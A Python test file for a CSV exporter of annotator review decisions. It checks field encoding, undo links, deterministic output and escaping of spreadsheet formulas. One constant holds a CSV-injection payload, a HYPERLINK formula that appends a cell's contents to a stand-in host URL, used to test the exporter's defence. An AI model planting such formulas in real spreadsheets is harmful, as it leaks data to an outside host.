import csv
import io
import json
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import TypeAlias

import pytest
from bundle_desk import run
from hypothesis import given
from hypothesis import strategies as st

from hitl_app.domain.decision import Decision, DecisionKind, ReviewStatus
from hitl_app.domain.jsontypes import Json
from hitl_app.domain.training import ExportSettings
from hitl_app.exchange.exporters.decisions import FORMULA, MARK, DecisionsExporter, encode_line
from hitl_app.store import SqliteStore, open_store
from hitl_app.system.clock import SystemClock
from hitl_app.workflow.exporting import StoredRecord

Row: TypeAlias = Mapping[str, str]

ROOT = run(0).trajectory.id
FORMULAS = '=HYPERLINK("http://a.test/?"&A1,"ok")'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    store = open_store(tmp_path / "desk.db", SystemClock())
    store.add_runs([run(0)])
    yield store
    store.close()


def decide(store: SqliteStore, kind: DecisionKind = DecisionKind.FLAG, reason: str = "", **more: object) -> int:
    values = {"annotator": "ada", "reason": reason, "made_at": "2026-01-31T12:00:00.000000+00:00", **more}
    return store.record(Decision(kind, ROOT, ROOT, **values)).sequence  # type: ignore[arg-type]  # passed on as given


def exported(store: SqliteStore, out: Path) -> bytes:
    summary = DecisionsExporter().export(StoredRecord(store), out, ExportSettings())
    data = (out / "decisions.csv").read_bytes()
    assert summary.files == (("decisions.csv", len(read(data))),)
    return data


def read(data: bytes) -> Sequence[Row]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_each_decision_is_a_line_that_says_who_decided_what_and_why(store: SqliteStore, tmp_path: Path) -> None:
    losses = {"goal": {"count": 2, "of": 3}, "feasibility": {"count": 0, "of": 9}, "hard_constraints": None}
    decide(
        store,
        DecisionKind.REJECT,
        "too dear,\n再想想\x00\x07",
        status_after=ReviewStatus.REJECTED,
        accepted=False,
        rule="worse",
        seconds=12.5,
        detail={"losses_before": losses, "idle_seconds": 3, "blind": True, "explanation": "no"},
    )
    data = exported(store, tmp_path / "out")
    (row,) = read(data)
    told = [row[name] for name in ("number", "who", "kind", "environment", "task", "status_before", "status_after")]
    assert told == ["1", "ada", "reject", "recorded", "task-0", "pending", "rejected"]
    assert row["reason"] == "too dear,\n再想想\x00\x07"
    assert [row[name] for name in ("accepted", "override", "seconds", "idle_seconds", "blind")] == [
        *("false", "false", "12.5"),
        *("3", "true"),
    ]
    before = [row[f"{name}_before"] for name in ("goal", "feasibility", "hard_constraints", "discrepancy")]
    assert (before, row["goal_after"]) == (["2", "0", "", ""], "")
    assert json.loads(row["detail"]) == {"explanation": "no"}
    assert data.startswith(MARK)
    assert data.count(b"\r\n") == 2


def test_a_decision_that_was_undone_is_marked(store: SqliteStore, tmp_path: Path) -> None:
    flagged = decide(store, status_after=ReviewStatus.FLAGGED)
    undo = decide(store, DecisionKind.UNDO, undoes=flagged)
    rows = read(exported(store, tmp_path / "out"))
    assert [(row["undone_by"], row["undoes"]) for row in rows] == [(str(undo), ""), ("", str(flagged))]


def test_a_formula_in_a_reason_is_only_text_to_a_spreadsheet(store: SqliteStore, tmp_path: Path) -> None:
    decide(store, reason=FORMULAS, annotator="@ada", seconds=-1.5)
    (row,) = read(exported(store, tmp_path / "out"))
    assert (row["reason"], row["who"]) == (f"'{FORMULAS}", "'@ada")
    assert row["seconds"] == "-1.5", "a number stays a number"


def test_the_same_store_gives_the_same_bytes_and_an_empty_one_no_line(store: SqliteStore, tmp_path: Path) -> None:
    assert exported(store, tmp_path / "out") == b""
    for number in range(3):
        decide(store, reason=f"reason {number}")
    assert exported(store, tmp_path / "out") == exported(store, tmp_path / "again")


cells: st.SearchStrategy[Json] = st.one_of(st.none(), st.booleans(), st.integers(), st.text(), st.sampled_from(FORMULA))


@given(st.lists(cells, min_size=1))
def test_every_text_is_read_back_and_none_is_a_formula(values: list[Json]) -> None:
    line = encode_line(values).decode("utf-8")
    ((*found,),) = csv.reader(io.StringIO(line, newline=""))
    for value, cell in zip(values, found, strict=True):
        if isinstance(value, str):
            assert not cell.startswith(FORMULA)
            assert cell in (value, f"'{value}")
        else:
            assert cell == ("" if value is None else json.dumps(value))
